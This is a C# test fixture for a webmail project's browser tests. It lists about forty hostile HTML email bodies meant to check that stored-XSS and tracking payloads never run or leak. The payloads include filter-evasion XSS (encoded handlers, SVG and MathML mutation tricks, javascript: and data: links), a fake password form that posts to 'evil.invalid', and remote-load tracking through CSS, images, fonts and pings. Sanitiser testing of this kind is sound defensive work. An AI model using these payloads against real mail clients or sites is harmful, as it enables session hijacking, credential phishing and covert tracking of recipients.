namespace WebMail.BrowserTests.HostileMail;

/// <summary>
/// HTML bodies that each try one technique from the stored-XSS and tracking advisories of webmails (Roundcube's
/// among them). A payload that runs sets <c>top.__pwned</c> or opens a dialog; one that leaks tries to reach a host
/// under <c>.invalid</c>. The test asserts neither ever happens.
/// </summary>
public static class HostileHtmlBodies
{
    private const string Mark = "top.__pwned=1;parent.__pwned=1";
    private const string Evil = "http://evil.invalid";

    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        ["script-tag"] = $"<p>hello</p><script>{Mark}</script>",
        ["script-in-head"] = $"<html><head><script src=\"{Evil}/head.js\"></script></head><body>hi</body></html>",
        ["img-onerror"] = $"<img src=x onerror=\"{Mark}\">",
        ["handler-mixed-case"] = $"<IMG SRC=x OnErRoR=\"{Mark}\">",
        ["handler-entity-encoded"] = "<img src=x onerror=\"&#116;&#111;&#112;&#46;&#95;&#95;&#112;&#119;&#110;&#101;&#100;&#61;&#49;\">",
        ["handler-slash-separator"] = $"<img/src=x/onerror=\"{Mark}\">",
        ["body-onload"] = $"<body onload=\"{Mark}\">text</body>",
        ["details-ontoggle"] = $"<details open ontoggle=\"{Mark}\"><summary>s</summary>d</details>",
        ["javascript-link-entities"] = "<a href=\"&#106;avascript:top.__pwned=1\">click</a>",
        ["javascript-link-tab"] = "<a href=\"jav&#x09;ascript:top.__pwned=1\">click</a>",
        ["vbscript-link"] = "<a href=\"vbscript:msgbox(1)\">click</a>",
        ["data-html-link"] = "<a href=\"data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+\">click</a>",
        ["svg-onload"] = $"<svg onload=\"{Mark}\"><circle r=5></circle></svg>",
        ["svg-script"] = $"<svg><script>{Mark}</script></svg>",
        ["svg-animate-href"] = "<svg><a><animate attributeName=\"href\" values=\"javascript:top.__pwned=1\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
        ["svg-set-href"] = "<svg><a><set attributeName=\"href\" to=\"javascript:top.__pwned=1\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
        ["svg-use-remote"] = $"<svg><use href=\"{Evil}/sprite.svg#a\"/></svg>",
        ["svg-foreignobject"] = $"<svg><foreignObject><iframe src=\"{Evil}/fo\"></iframe><img src=x onerror=\"{Mark}\"></foreignObject></svg>",
        ["svg-data-image"] = "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLl9fcHduZWQ9MSIvPg==\">",
        ["mathml-mglyph-style"] = $"<math><mtext><table><mglyph><style><img src=x onerror=\"{Mark}\">",
        ["mathml-href"] = "<math href=\"javascript:top.__pwned=1\"><mi>x</mi></math>",
        ["noscript-mutation"] = $"<noscript><p title=\"</noscript><img src=x onerror={Mark}>\"></p></noscript>",
        ["style-mutation"] = $"<style><style/><img src=x onerror=\"{Mark}\">",
        ["iframe-srcdoc"] = "<iframe srcdoc=\"&lt;script&gt;parent.parent.__pwned=1&lt;/script&gt;\"></iframe>",
        ["iframe-remote"] = $"<iframe src=\"{Evil}/frame\"></iframe>",
        ["object-embed"] = $"<object data=\"{Evil}/object.swf\"></object><embed src=\"{Evil}/embed.swf\">",
        ["form-inputs"] = $"<form action=\"{Evil}/steal\"><input name=password type=password><input type=image src=\"{Evil}/input.png\"><button>Sign in</button></form>",
        ["meta-refresh"] = $"<meta http-equiv=\"refresh\" content=\"0;url={Evil}/refresh\">text",
        ["base-href"] = $"<base href=\"{Evil}/\"><img src=\"relative.png\"><a href=\"relative\">link</a>",
        ["link-prefetch-preconnect"] = $"<link rel=\"prefetch\" href=\"{Evil}/prefetch\"><link rel=\"preconnect\" href=\"{Evil}\"><link rel=\"stylesheet\" href=\"{Evil}/sheet.css\"><link rel=\"dns-prefetch\" href=\"{Evil}\">",
        ["img-remote"] = $"<img src=\"{Evil}/pixel.gif\" width=1 height=1>",
        ["img-srcset"] = $"<img srcset=\"{Evil}/srcset.png 1x\"><picture><source srcset=\"{Evil}/source.png\"><img src=x></picture>",
        ["video-poster-audio"] = $"<video poster=\"{Evil}/poster.png\" src=\"{Evil}/v.mp4\"></video><audio src=\"{Evil}/a.mp3\" autoplay></audio>",
        ["table-background"] = $"<table background=\"{Evil}/table.png\"><tr><td background=\"{Evil}/td.png\">x</td></tr></table>",
        ["css-import"] = $"<style>@import url({Evil}/import.css); @import '{Evil}/import2.css';</style>text",
        ["css-background-url"] = $"<div style=\"background:url({Evil}/bg.png)\">text</div>",
        ["css-var-fallback"] = $"<div style=\"--a:1;background-image:var(--x, url({Evil}/var.png))\">text</div>",
        ["css-escaped-url"] = $"<div style=\"background:u\\72 l({Evil}/escaped.png)\">text</div>",
        ["css-font-face"] = $"<style>@font-face{{font-family:x;src:url({Evil}/font.woff)}} p{{font-family:x}}</style><p>text</p>",
        ["css-expression"] = $"<div style=\"width:expression({Mark})\">text</div>",
        ["css-fixed-overlay"] = "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red\">overlay</div>",
        ["css-fixed-important-escaped"] = "<div style=\"pos\\69tion:fixed !important;inset:0;z-index:2147483647;background:red\">overlay</div>",
        ["css-style-block-overlay"] = "<style>div.o{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999} body{background:red}</style><div class=o>overlay</div>",
        ["anchor-ping"] = $"<a href=\"https://example.edu/\" ping=\"{Evil}/ping\">a safe link with a ping</a>",
    };
}
